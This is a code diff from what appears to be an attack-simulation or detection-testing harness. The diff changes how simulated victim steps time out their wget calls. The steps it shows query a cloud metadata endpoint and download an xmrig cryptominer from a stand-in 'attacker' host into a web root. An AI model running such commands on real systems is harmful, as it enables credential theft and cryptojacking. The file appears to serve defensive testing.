@@ -48,12 +48,12 @@ export function portScan(kind: VictimKind): Step {
   };
 }
 
-/** GET with a header, by curl or by busybox' wget. */
+/** GET with a header, by curl or by busybox' wget (whose own -T ends it in a segmentation fault in Debian 12). */
 function get(kind: VictimKind, path: string, header: string): string {
   const url = `'${metadata}${path}'`;
   return kind === "debian"
     ? `curl -s -m 5 --noproxy '*' -H "${header}" ${url}`
-    : `wget -q -T 5 -O - --header "${header}" ${url}`;
+    : `timeout 5 wget -q -O - --header "${header}" ${url}`;
 }
 
 export function googleMetadata(kind: VictimKind): Step {
@@ -156,7 +156,7 @@ export function downloadMiner(kind: VictimKind): Step {
   const url = "http://attacker/xmrig";
   return {
     name: "miner download",
-    script: kind === "debian" ? `curl -sO -m 10 ${url}` : `wget -q -T 10 ${url}`,
+    script: kind === "debian" ? `curl -sO -m 10 ${url}` : `timeout 10 wget -q ${url}`,
     missing: all(succeeds, writes("var/www/html/xmrig")),
   };
 }
